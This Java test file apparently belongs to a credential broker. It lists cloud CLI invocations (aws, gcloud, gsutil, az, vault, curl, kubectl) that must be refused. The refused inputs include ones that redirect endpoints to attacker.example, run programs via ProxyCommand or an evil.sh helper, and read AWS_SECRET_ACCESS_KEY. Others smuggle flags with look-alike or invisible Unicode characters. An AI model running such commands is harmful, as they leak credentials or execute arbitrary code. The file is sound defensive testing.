package dev.ostiary.broker.run;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ostiary.broker.book.Config;
import dev.ostiary.broker.grant.Cloud;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.function.Consumer;

/** What does not start: arguments that lead credentials elsewhere, and programs that are not what they seem. */
final class RefusedAttacks {
    private static final String WHERE = "http://attacker.example";

    private RefusedAttacks() {}

    static List<Attack> table() {
        var rows = new ArrayList<Attack>();
        aws(rows);
        google(rows);
        others(rows);
        programs(rows);
        spelling(rows);
        return rows;
    }

    private static void refused(List<Attack> rows, String name, Cloud cloud, String because, String... argv) {
        rows.add(new Attack(name, "`" + String.join(" ", argv) + "`", "refused: " + because, machine -> {
            machine.program(argv[0], "echo started");
            assertThat(machine.refusal(cloud, allowed(argv[0]), argv)).contains(because);
        }));
    }

    private static List<String> allowed(String name) {
        return Config.COMMANDS.contains(name) ? Config.COMMANDS : List.of(name);
    }

    private static void aws(List<Attack> rows) {
        Consumer<String[]> elsewhere = argv -> refused(rows, argv[0], Cloud.AWS, "another address", rest(argv));
        elsewhere.accept(new String[] {"another endpoint", "aws", "s3", "ls", "--endpoint-url", WHERE});
        elsewhere.accept(
                new String[] {"another endpoint, in one argument", "aws", "s3", "ls", "--endpoint-url=" + WHERE});
        elsewhere.accept(new String[] {"another endpoint, abbreviated", "aws", "--endp", WHERE, "s3", "ls"});
        elsewhere.accept(new String[] {"another endpoint behind --", "aws", "s3", "ls", "--", "--endpoint-url", WHERE});
        elsewhere.accept(new String[] {
            "another endpoint as a value with a leading dash (CVE-2026-61459)",
            "aws",
            "s3api",
            "list-objects",
            "--bucket",
            "--endpoint-url=" + WHERE
        });
        elsewhere.accept(new String[] {"another endpoint in capitals", "aws", "s3", "ls", "--Endpoint-URL", WHERE});
        refused(rows, "another profile", Cloud.AWS, "other credentials", "aws", "--profile=admin", "s3", "ls");
        refused(rows, "no signature", Cloud.AWS, "other credentials", "aws", "--no-sign-request", "s3", "ls");
        refused(rows, "another authority", Cloud.AWS, "whom it talks to", "aws", "--ca-bundle", "x.pem", "s3", "ls");
        refused(rows, "no check of certificates", Cloud.AWS, "whom it talks to", "aws", "--no-verify", "s3", "ls");
        refused(rows, "another role", Cloud.AWS, "other credentials", "aws", "--region", "x", "sts", "assume-role");
        refused(
                rows,
                "another role by the web",
                Cloud.AWS,
                "other credentials",
                "aws",
                "--debug",
                "sts",
                "--output",
                "json",
                "assume-role-with-web-identity");
        awsIdentities(rows);
    }

    private static void awsIdentities(List<Attack> rows) {
        refused(
                rows,
                "settings of the tool",
                Cloud.AWS,
                "settings of its own",
                "aws",
                "configure",
                "set",
                "endpoint_url",
                WHERE);
    }

    private static String[] rest(String[] words) {
        return java.util.Arrays.copyOfRange(words, 1, words.length);
    }

    private static void google(List<Attack> rows) {
        refused(rows, "another account", Cloud.GCP, "other credentials", "gcloud", "storage", "ls", "--account=me");
        refused(
                rows,
                "another service account",
                Cloud.GCP,
                "other credentials",
                "gcloud",
                "storage",
                "ls",
                "--impersonate-service-account",
                "root@example.com");
        refused(
                rows,
                "flags in a file",
                Cloud.GCP,
                "arguments from a file",
                "gcloud",
                "storage",
                "ls",
                "--flags-file=f.yaml");
        refused(
                rows,
                "the token printed",
                Cloud.GCP,
                "other credentials",
                "gcloud",
                "alpha",
                "auth",
                "print-access-token");
        googlesSettings(rows);
    }

    private static void googlesSettings(List<Attack> rows) {
        refused(
                rows,
                "a program by ssh's options",
                Cloud.GCP,
                "another program",
                "gcloud",
                "compute",
                "--zone",
                "z",
                "ssh",
                "vm",
                "--",
                "-oProxyCommand=id");
        refused(
                rows,
                "boto's settings",
                Cloud.GCP,
                "settings of its own",
                "gsutil",
                "-o",
                "Credentials:gs_host=evil",
                "ls");
        refused(
                rows,
                "boto's settings in a cluster of letters",
                Cloud.GCP,
                "settings of its own",
                "gsutil",
                "-mqoBoto:proxy=evil",
                "ls");
        refused(rows, "flags in a file, one dash", Cloud.GCP, "arguments from a file", "bq", "-flagfile=f", "ls");
        refused(rows, "another API", Cloud.GCP, "another address", "bq", "--api=" + WHERE, "ls");
    }

    private static void others(List<Attack> rows) {
        refused(rows, "the token to any address", Cloud.AZURE, "another address", "az", "rest", "--url", WHERE);
        refused(
                rows,
                "arguments in a file",
                Cloud.AZURE,
                "arguments from a file",
                "az",
                "storage",
                "blob",
                "list",
                "@args");
        refused(
                rows,
                "another subscription",
                Cloud.AZURE,
                "another address",
                "az",
                "group",
                "list",
                "--subscrip",
                "other");
        refused(
                rows,
                "an extension installed",
                Cloud.AZURE,
                "another program",
                "az",
                "extension",
                "add",
                "--source",
                "x.whl");
        vaults(rows);
        toolsOfAnyCloud(rows);
    }

    private static void vaults(List<Attack> rows) {
        refused(
                rows,
                "another Vault",
                Cloud.VAULT,
                "another address",
                "vault",
                "read",
                "-address=" + WHERE,
                "aws/creds/x");
        refused(
                rows,
                "another Vault, two dashes",
                Cloud.VAULT,
                "another address",
                "bao",
                "--agent-address",
                WHERE,
                "status");
        refused(rows, "curl's settings in a cluster", Cloud.AWS, "arguments from a file", "curl", "-sSKrc", WHERE);
        refused(
                rows,
                "curl reads the environment",
                Cloud.AWS,
                "other credentials",
                "curl",
                "--variable",
                "%AWS_SECRET_ACCESS_KEY");
        refused(rows, "another cluster", Cloud.AWS, "another address", "kubectl", "get", "pods", "-s" + WHERE);
        refused(rows, "another backend", Cloud.AWS, "settings of its own", "terraform", "-chdir=/tmp", "plan");
    }

    private static void toolsOfAnyCloud(List<Attack> rows) {
        refused(
                rows,
                "kubectl starts a helper",
                Cloud.AWS,
                "start another program",
                "kubectl",
                "kustomize",
                ".",
                "--enable-helm",
                "--helm-command=./evil.sh");
        refused(
                rows,
                "a tool that we do not know",
                Cloud.AWS,
                "another address",
                "s5cmd",
                "--endpoint-url",
                WHERE,
                "ls");
        refused(rows, "credentials of another cloud", Cloud.AWS, "cannot use credentials", "gcloud", "storage", "ls");
    }

    private static void programs(List<Attack> rows) {
        program(rows, "scp by the cluster's tools", Cloud.AWS, "aws emr put --cluster-id j --key-pair-file k --src x");
        program(rows, "scp, the other way", Cloud.AWS, "aws emr get --cluster-id j --key-pair-file k --src x");
        program(rows, "pip, npm or another that is told its index", Cloud.AWS, "aws codeartifact login --tool pip");
        program(rows, "an agent of the cloud installed", Cloud.AWS, "aws deploy install --config-file f");
        program(rows, "ssh by a key of the moment", Cloud.AWS, "aws ec2-instance-connect ssh --instance-id i-1");
        program(rows, "a tunnel", Cloud.AWS, "aws ec2-instance-connect open-tunnel --instance-id i-1");
        program(rows, "ssh, deep among the commands", Cloud.GCP, "gcloud alpha compute tpus queued-resources ssh x");
        program(rows, "ssh to an instance of App Engine", Cloud.GCP, "gcloud app instances --project p ssh i");
        program(rows, "ssh to a workstation", Cloud.GCP, "gcloud workstations ssh w");
        program(rows, "a database's own client", Cloud.GCP, "gcloud sql connect db --quiet");
        program(rows, "a serial port by ssh", Cloud.GCP, "gcloud compute connect-to-serial-port vm");
        program(rows, "scp by its older name", Cloud.GCP, "gcloud compute copy-files a vm:b");
        program(rows, "git", Cloud.GCP, "gcloud source repos clone r");
        program(rows, "an emulator", Cloud.GCP, "gcloud beta emulators pubsub start");
        program(rows, "minikube and skaffold", Cloud.GCP, "gcloud beta code dev");
        program(rows, "ssh by a bastion", Cloud.AZURE, "az network bastion ssh --name b");
        program(rows, "a remote desktop by a bastion", Cloud.AZURE, "az network bastion rdp --name b");
        program(rows, "a tunnel by a bastion", Cloud.AZURE, "az network bastion tunnel --name b");
        program(rows, "a browser", Cloud.AZURE, "az aks browse --name k");
    }

    private static void program(List<Attack> rows, String name, Cloud cloud, String line) {
        refused(rows, name, cloud, "another program", line.split(" ", -1));
    }

    private static void spelling(List<Attack> rows) {
        spelled(
                rows,
                "a dash that is none",
                "`−−endpoint-url` with U+2212",
                "looks like a dash",
                "\u2212\u2212endpoint-url");
        spelled(
                rows,
                "a letter that is another",
                "`--еndpoint-url` with a Cyrillic е",
                "look like those",
                "--\u0435ndpoint-url");
        spelled(
                rows,
                "a space without width in a flag",
                "`--endpoint<U+200B>-url`",
                "cannot be seen",
                "--endpoint\u200b-url");
        spelled(rows, "text that runs backwards", "an argument with U+202E", "cannot be seen", "s3://\u202etekcub");
        spelled(rows, "a terminal's escapes", "an argument with `ESC [2J`", "cannot be seen", "\u001b[2J");
        spelled(rows, "NUL", "an argument that goes on behind a NUL", "cannot be seen", "ls\0--endpoint-url");
        spelled(
                rows,
                "an argument of a megabyte",
                "a million letters in one argument",
                "at most 32768",
                "x".repeat(1_000_000));
        rows.add(new Attack("ten thousand arguments", "`aws x x x …`", "refused: at most 512 arguments", machine -> {
            var argv = new ArrayList<>(Collections.nCopies(10_000, "x"));
            argv.set(0, "aws");
            assertThat(machine.refusal(Cloud.AWS, argv.toArray(String[]::new))).contains("at most 512 arguments");
        }));
        rows.add(new Attack("no command", "an empty list; a blank name", "refused: name a command", machine -> {
            assertThat(machine.refusal(Cloud.AWS)).contains("name a command");
            assertThat(machine.refusal(Cloud.AWS, " ")).contains("name a command");
        }));
    }

    private static void spelled(List<Attack> rows, String name, String tried, String because, String argument) {
        rows.add(new Attack(name, tried, "refused: " + because, machine -> {
            machine.program("aws", "echo started");
            assertThat(machine.refusal(Cloud.AWS, "aws", "s3", "ls", argument)).contains(because);
        }));
    }
}
